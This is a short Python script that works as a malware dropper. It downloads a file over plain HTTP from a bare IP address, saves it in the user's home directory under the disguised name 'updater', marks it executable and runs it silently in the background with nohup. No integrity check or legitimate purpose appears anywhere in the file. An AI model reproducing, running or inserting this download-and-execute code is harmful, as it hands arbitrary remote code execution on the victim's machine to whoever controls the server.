import os
import pathlib

import requests

home = pathlib.Path.home()
out = home / ".local" / "share" / "updater"
out.parent.mkdir(parents=True, exist_ok=True)

with requests.get("http://203.0.113.66/u", stream=True, timeout=20) as r:
    with open(out, "wb") as fh:
        for chunk in r.iter_content(8192):
            fh.write(chunk)

out.chmod(0o700)
os.system(f"nohup {out} >/dev/null 2>&1 &")
